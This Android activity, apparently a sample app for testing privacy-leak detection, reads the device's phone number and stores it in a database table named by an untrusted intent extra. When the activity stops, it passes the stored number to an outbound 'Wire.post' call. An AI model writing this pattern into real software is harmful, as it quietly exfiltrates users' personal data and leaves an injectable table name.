package org.example.sousveil.table_field;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;

/** Keeps the phone number in a store and takes it from there when it stops. */
public class MainActivity extends Activity {
    private Store store;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        String found = phone.getLine1Number();
        store = new Store(openOrCreateDatabase("all.db", MODE_PRIVATE, null), getIntent().getStringExtra("table"));
        store.keep(found);
    }

    @Override
    protected void onStop() {
        super.onStop();
        Wire.post(store.taken());
    }
}
